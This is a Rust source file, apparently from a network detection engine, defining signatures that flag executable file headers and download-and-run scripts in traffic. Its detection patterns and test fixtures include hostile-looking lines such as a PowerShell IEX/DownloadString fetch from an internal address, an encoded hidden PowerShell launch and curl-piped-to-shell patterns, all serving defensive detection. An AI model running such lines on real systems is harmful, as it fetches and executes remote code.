//! Programs in transfer: the head of an executable image or a script, where a message or an HTTP body begins with it, or
//! where it follows a length that fits, as staged loaders send it.

use super::{Payload, Sender, Signature, first_line, http, quote};
use crate::class::{Class, Weight};
use crate::port::Transport;

/// The largest image that is believed to follow a length.
const MAX_IMAGE: u32 = 256 << 20;
/// Bytes of a first line that are looked at.
const MAX_LINE: usize = 512;
/// The DOS stub's message stands in the first bytes of every image that linkers make.
const STUB: &[u8] = b"This program cannot be run in DOS mode";
const STUB_WITHIN: usize = 256;

/// Where an image may begin in a message.
fn starts<'a>(payload: &Payload<'a>) -> [Option<(&'a [u8], &'static str)>; 4] {
    let bytes = payload.bytes;
    // A TFTP block begins with its kind and number (RFC 1350, section 5), and holds a file.
    let block = payload.transport == Transport::Udp && bytes.starts_with(&[0, 3, 0, 1]);
    let staged = bytes.split_first_chunk::<4>().filter(|_| !block).filter(|(length, _)| {
        let (little, big) = (u32::from_le_bytes(**length), u32::from_be_bytes(**length));
        (1024..MAX_IMAGE).contains(&little) || (1024..MAX_IMAGE).contains(&big)
    });
    [
        Some((bytes, "")),
        staged.map(|(_, rest)| (rest, " after its length, as a loader takes it")),
        bytes.get(4..).filter(|_| block).map(|rest| (rest, " in a TFTP transfer")),
        http::body(bytes).map(|body| (body, " in an HTTP body")),
    ]
}

fn image(payload: &Payload<'_>) -> Option<String> {
    starts(payload).into_iter().flatten().find_map(|(bytes, place)| kind(bytes).map(|kind| format!("{kind}{place}")))
}

/// The format of an image by its head.
fn kind(bytes: &[u8]) -> Option<&'static str> {
    let head = bytes.first_chunk::<20>()?;
    match head[..8] {
        [b'M', b'Z', ..] => is_portable(bytes).then_some("Windows executable"),
        // class, byte order, version 1; a type and a machine in the byte order it states (ELF, System V ABI, chapter 4)
        [0x7f, b'E', b'L', b'F', 1 | 2, order @ (1 | 2), 1, _] => {
            let half = |at: usize| {
                let two = [head[at], head[at + 1]];
                if order == 1 { u16::from_le_bytes(two) } else { u16::from_be_bytes(two) }
            };
            (matches!(half(16), 2 | 3) && half(18) != 0).then_some("ELF executable")
        }
        // magic of either width in either byte order, then a processor type (mach-o/loader.h)
        [0xfe, 0xed, 0xfa, 0xce | 0xcf, 0 | 1, 0, 0, 7 | 12 | 18]
        | [0xce | 0xcf, 0xfa, 0xed, 0xfe, 7 | 12 | 18, 0, 0, 0 | 1] => Some("Mach-O executable"),
        [b'T', b'V', b'q' | b'p' | b'r', ..] if bytes.starts_with(b"TVqQAAMAAAAEAAAA") => {
            Some("Windows executable in base64")
        }
        [b'f', b'0', b'V', b'M', b'R', b'g', b'I' | b'E', _] => Some("ELF executable in base64"),
        [b'd', b'e', b'x', b'\n', b'0', b'3', _, 0] => Some("Android executable"),
        _ => None,
    }
}

/// Either the new header is where the old one says (PE format, section "MS-DOS stub"), or the stub's message is there.
fn is_portable(bytes: &[u8]) -> bool {
    let new_header =
        bytes.get(0x3c..).and_then(|rest| rest.first_chunk()).map(|four| u32::from_le_bytes(*four) as usize);
    let signed = new_header.and_then(|at| bytes.get(at..)).is_some_and(|rest| rest.starts_with(b"PE\0\0"));
    signed || memchr::memmem::find(&bytes[..bytes.len().min(STUB_WITHIN)], STUB).is_some()
}

fn script(payload: &Payload<'_>) -> Option<String> {
    starts(payload).into_iter().flatten().find_map(|(bytes, place)| {
        if let Some(line) = download_line(bytes) {
            return Some(format!("{}{place}", quote(line)));
        }
        bytes.strip_prefix(b"#!")?;
        let line = first_line(bytes);
        let interpreter = line.strip_prefix(b"#!")?.trim_ascii_start();
        let known =
            interpreter.starts_with(b"/") && line.len() <= 128 && line.iter().all(|byte| (0x20..0x7f).contains(byte));
        known.then(|| format!("{}{place}", quote(line)))
    })
}

/// A line of PowerShell that fetches and runs something, or that hides in base64 what it runs.
fn download_line(bytes: &[u8]) -> Option<&[u8]> {
    if !matches!(bytes.first()?, b'I' | b'i' | b'p' | b'P' | b'$' | b'c' | b'w') {
        return None;
    }
    let line = first_line(&bytes[..bytes.len().min(MAX_LINE)]);
    let lower = line.to_ascii_lowercase();
    let has = |word: &[u8]| memchr::memmem::find(&lower, word).is_some();
    let runs =
        lower.starts_with(b"iex") || lower.starts_with(b"powershell") || has(b"invoke-expression") || has(b"iex(");
    let fetches = has(b"net.webclient")
        || has(b"net.sockets.tcpclient")
        || has(b"downloadstring")
        || has(b" -enc")
        || has(b" -e ")
        || has(b"frombase64string");
    let piped = (lower.starts_with(b"curl ") || lower.starts_with(b"wget "))
        && [&b"|sh"[..], b"| sh", b"|bash", b"| bash"].iter().any(|pipe| has(pipe));
    let socket = has(b"net.sockets.tcpclient");
    ((runs && fetches) || piped || socket).then_some(line)
}

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0";
const STAGED_ELF: &[u8] = b"\0\x40\x01\0\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0";
const PE: &[u8] =
    b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\
\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0PE\0\0";

pub const IMAGE: Signature = Signature {
    id: "executable.image",
    protocol: "",
    about: "The head of an executable (Windows PE, ELF, Mach-O, Android; the first two also in base64) at the start of a message, after a length, or as an HTTP body.",
    class: Class::Suspicious,
    weight: Weight::STRONG,
    attack: Some("T1105"),
    sender: Sender::Either,
    see: image,
    hits: &[
        (Transport::Tcp, ELF),
        (Transport::Tcp, STAGED_ELF),
        (Transport::Tcp, PE),
        (Transport::Tcp, b"TVqQAAMAAAAEAAAA//8AALgAAAA"),
    ],
    misses: &[
        (Transport::Tcp, b"MZ is how it begins, and this is no program at all"),
        (Transport::Tcp, b"\x7fELF\x09\x09\x09\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0"),
        (Transport::Tcp, b"\xca\xfe\xba\xbe\0\0\0\x34\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
    ],
};

pub const SCRIPT: Signature = Signature {
    id: "executable.script",
    protocol: "",
    about: "The first line of a script (#!/bin/sh …), or a line of PowerShell that fetches or unpacks what it runs, at the start of a message, after a length, or as an HTTP body.",
    class: Class::Suspicious,
    weight: Weight::MODERATE,
    attack: Some("T1105"),
    sender: Sender::Either,
    see: script,
    hits: &[
        (Transport::Tcp, b"#!/bin/sh\nrm -rf /tmp/x\n"),
        (Transport::Tcp, b"HTTP/1.0 200 OK\r\n\r\n#!/usr/bin/env python3\n"),
        (Transport::Tcp, b"powershell -nop -w hidden -enc SQBFAFgA\r\n"),
        (Transport::Tcp, b"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')\n"),
    ],
    misses: &[
        (Transport::Tcp, b"#!"),
        (Transport::Tcp, b"# !/bin/sh\n"),
        (Transport::Tcp, b"#!\x00\x01/\n"),
        (Transport::Tcp, b"powershell is a shell\n"),
    ],
};
